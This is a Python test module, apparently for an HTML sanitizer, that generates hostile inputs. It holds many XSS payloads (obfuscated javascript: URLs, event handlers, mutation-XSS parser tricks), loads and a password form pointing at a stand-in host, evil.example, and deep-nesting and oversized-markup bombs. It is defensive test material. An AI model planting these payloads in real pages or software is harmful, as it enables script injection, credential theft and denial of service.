"""HTML that runs, loads, hides or never ends."""

from tests.hostile.cases.case import Case, case

# Spellings under which a browser still runs a script (WHATWG URL, HTML attribute values).
_SPELLINGS = [
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", " \n javascript:alert(1)"),
    *("java\tscript:alert(1)", "java\nscript:alert(1)", "java&#9;script:alert(1)"),
    *("java&#x0A;script:alert(1)", "java&Tab;script:alert(1)", "javascript&colon;alert(1)"),
    *("&#1;javascript:alert(1)", "\x01javascript:alert(1)", "&#x6A;avascript:alert(1)"),
    *("java\x00script:alert(1)", "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58;alert(1)"),
    *("data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4="),
    *("data:image/svg+xml,<svg onload=alert(1)>", "vbscript:alert(1)", "feed:javascript:alert(1)"),
    *("blob:https://a.example/alert(1)", "view-source:javascript:alert(1)", "jar:alert(1)!/"),
    *("java&#xAD;script:alert(1)", "&NewLine;javascript:alert(1)", "\u00a0javascript:alert(1)"),
]
_ATTRIBUTES = [
    *("a href", "img src", "img srcset", "img longdesc", "img lowsrc", "img dynsrc", "img usemap"),
    *("source src", "source srcset", "video src", "video poster", "audio src", "track src"),
    *("blockquote cite", "q cite", "ins cite", "del cite", "iframe src", "iframe srcdoc"),
    *("form action", "button formaction", "input src", "input formaction", "object data"),
    *("embed src", "link href", "base href", "area href", "body background", "table background"),
    *("td background", "applet code", "a ping", "frame src", "svg href", "use xlink:href"),
    *("math href", "animate to", "html manifest", "head profile", "isindex action", "bgsound src"),
]


def _with_urls(attribute: str) -> Case:
    tag, _, name = attribute.partition(" ")
    made = "".join(f'<{tag} {name}="{url}">x</{tag}>\n' for url in _SPELLINGS if '"' not in url)
    bare = f"<{tag} {name}=javascript:alert(1)>y</{tag}><{tag} {name}='javascript:alert(1)'>"
    text = f"<h1>Headline</h1>\n<p>Before.</p>\n{made}{bare}\n<p>After.</p>"
    id = f"url-{attribute.replace(' ', '-').replace(':', '-')}"
    return case(id, text, suffix="html", lacks=("<script", "onload="))


_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<p onclick=alert(1) onmouseover='alert(1)' style='x:expression(alert(1))'>x</p>",
    "<details ontoggle=alert(1) open>x</details>",
    "<video onloadstart=alert(1) src=x></video><audio src=x onerror=alert(1)>",
    "<a href=x onfocus=alert(1) autofocus tabindex=1>x</a>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)><body onpageshow=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<p title='</p><script>alert(1)</script>'>x</p>",
]  # fmt: skip
_MUTATIONS = [
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><p title=\"--&gt;&lt;p onclick=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<svg><![CDATA[<image xlink:href=\"]]><img src=x onerror=alert(1)//\"></svg>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><script href=data:,alert(1) /><animate attributeName=href values=javascript:alert(1) />",
    "<svg><a><animate attributeName=href to=javascript:alert(1) /><text>x</text></a></svg>",
    "<math href=javascript:alert(1)>x</math><math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<template><script>alert(1)</script></template><select><template><img src=x onerror=alert(1)>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<style><p title=\"</style><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>",
    "<? foo=\"><script>alert(1)</script>\"><! foo=\"><script>alert(1)</script>\">",
    "</ foo=\"><script>alert(1)</script>\"><% foo><p title=\"%><script>alert(1)</script>\">",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script\n><script\x0calert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<a href=\"x\" =\"><script>alert(1)</script>\">x</a>",
    "<table><td><svg><style><p><img src=x onerror=alert(1)></style></table>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<p id=\"\x00x\"><img\x00 src=x onerror=alert(1)><img src=x\x00onerror=alert(1)>",
]  # fmt: skip
_LOADS = [
    "<base href='https://evil.example/'><a href='/x'>x</a><img src=y.png>",
    "<base target=_blank><a href=x target=_top>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<META HTTP-EQUIV='Set-Cookie' CONTENT='a=b'><meta charset=utf-7>",
    "<link rel=stylesheet href=//evil.example/x.css><link rel=preload href=//evil.example>",
    "<style>@import '//evil.example'; body{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(//evil.example)'>x</p><p style='position:fixed;top:0'>x</p>",
    "<font style=x size=99 face='x;y'>x</font><center>x</center><blink>x</blink>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<object data=//evil.example/x.swf><param name=x><embed src=//evil.example/x></object>",
    "<applet code=x archive=//evil.example></applet><frameset><frame src=//evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><portal src=//evil.example></portal>",
    "<dialog open>x</dialog><slot name=x></slot><x-y is=z>x</x-y>",
    "<p class='a b' id=top name=x slot=y data-x=z aria-hidden=true contenteditable>x</p>",
    "<img src='http://[::1' srcset='http://[ 1x, //[x 2x, ,,, x 3x'><a href='http://[x'>x</a>",
    "<a href='//'>x</a><a href='http:'>x</a><a href='#'>x</a><a href='?'>x</a><a href=''>x</a>",
    "<a href='http://a\\@evil.example.test/%'>x</a><a href='mailto:a%0d%0aBcc:b@c.d'>x</a>",
]  # fmt: skip


def _bomb(id: str, body: str, code: str = "", line: int = 1, suffix: str = "html") -> Case:
    head = "<title>T</title>\n" if suffix == "html" else "# T\n\n"
    return case(id, head + body, code, line, suffix=suffix)


_MANY_FORMATS = "".join(f"<b id={n}>" for n in range(150))
_BOMBS = [
    _bomb("nested", "<div>" * 100_000, "too-deep", 2),
    _bomb("nested-closed", "<div>" * 99_000 + "x" + "</div>" * 99_000, "too-deep", 2),
    _bomb("nested-line", "<p>x</p>\n" * 7 + "<span>" * 100_000, "too-deep", 9),
    _bomb("nested-md", "<div>" * 100_000, "too-deep", suffix="md"),
    _bomb("nested-formats", "<b><i><u>" * 30_000, "too-deep", 2),
    _bomb("nested-tables", "<table><tr><td>" * 30_000, "too-deep", 2),
    _bomb("nested-lists", "<ul><li>" * 50_000, "too-deep", 2),
    _bomb("nested-quotes", "<blockquote>" * 100_000, "too-deep", 2),
    _bomb("nested-svg", "<svg><g>" * 50_000),
    _bomb("nested-unknown", "<x>" * 100_000 + "y"),
    _bomb("nested-select", "<select><option>" * 50_000),
    _bomb("nested-template", "<template>" * 100_000),
    _bomb("nested-object", "<object>" * 100_000 + "x"),
    _bomb("nested-object-closed", "<object data=a>" * 50_000 + "</object>" * 50_000),
    _bomb("object-params", "<object>" + "<param name=movie>" * 50_000 + "</object>"),
    _bomb("checkboxes", "<input type=checkbox>" * 50_000),
    _bomb("checkboxes-open", "checkbox" + "<input type=" * 50_000),
    _bomb("callouts", '<p class="note">a</p>' * 30_000),
    _bomb("callout-titles", '<div class="note"><p class="note-title">a</p></div>' * 20_000),
    _bomb("asciidoctor", '<div class="admonitionblock note"><table></table></div>' * 20_000),
    _bomb("wordpress-marks", "[gist]a[/gist][vc_row][slider id='1']" * 10_000),
    _bomb("noscripts", "<img data-src=a><noscript>" * 30_000 + "<img src=b></noscript>"),
    _bomb("drawing", "<svg><title>" + "<text>a<text " * 50_000 + "</svg>"),
    _bomb("lazy-sets", "<img data-srcset='a, " + "b 2x, " * 5_000 + "'>x"),
    _bomb("custom", "<lite-youtube videoid=a>" * 50_000),
    _bomb("formats-anew", f"<p>{_MANY_FORMATS}{'<p>x' * 5_000}", "too-deep", 2),
    _bomb("attributes", "<p " + " ".join(f"a{n}=1" for n in range(200_000)) + ">x",
          "too-many-attributes", 2),
    _bomb("attributes-same", "<p " + "a=1 " * 200_000 + ">x", "too-many-attributes", 2),
    _bomb("attributes-each", f"<p {' '.join(f'a{n}=1' for n in range(199))}>" * 1_000),
    _bomb("attribute-long", f"<p title='{'x' * 1_000_000}'>x", "tag-too-long", 2),
    _bomb("data-picture", f"<p>x</p><img src='data:image/png;base64,{'x' * 1_000_000}'>"),
    _bomb("name-long", f"<{'x' * 1_000_000}>y"),
    _bomb("elements", "<br>" * 1_000_000, "too-large"),
    _bomb("end-tags", "</p>" * 60_000),
    _bomb("misnested", "<a><b></a></b>" * 12_000),
    _bomb("foster", "<table>" + "x<b>" * 12_000, "too-deep", 2),
    _bomb("signs", "<" * 190_000),
    _bomb("open-tags", "<a b='" * 12_000),
    _bomb("comments", "<!--" * 60_000),
    _bomb("scripts-open", "<script>" * 60_000),
    _bomb("references", "&#1;" * 60_000),
    _bomb("references-nested", "&#" * 60_000 + "1;" * 60_000),
    _bomb("equal-ids", "<p id=a>x" * 12_000),
    _bomb("equal-headings", "<h2>A</h2>" * 5_000),
    _bomb("pictures", "".join(f"<img src={n}.png alt=x>" for n in range(2_000))),
    _bomb("candidates", f"<img src=a.png alt=x srcset='{'a.png 1x,' * 6_000}'>"),
]  # fmt: skip


def _page(id: str, body: str) -> Case:
    text = f"<html><head><title>Headline</title></head><body><p>Before.</p>{body}"
    return case(id, text, suffix="html", holds=("Before.",))


def _in_markdown(id: str, body: str) -> Case:
    return case(id, f"# Headline\n\nBefore.\n\n{body}\n", holds=("Before.",))


def _runs(make: str) -> list[Case]:
    maker = _page if make == "page" else _in_markdown
    groups = {"handler": _HANDLERS, "mutation": _MUTATIONS, "load": _LOADS}
    return [
        maker(f"{make}-{group}-{number}", body)
        for group, bodies in groups.items()
        for number, body in enumerate(bodies)
    ]


CASES: list[Case] = [*map(_with_urls, _ATTRIBUTES), *_runs("page"), *_runs("md"), *_BOMBS]
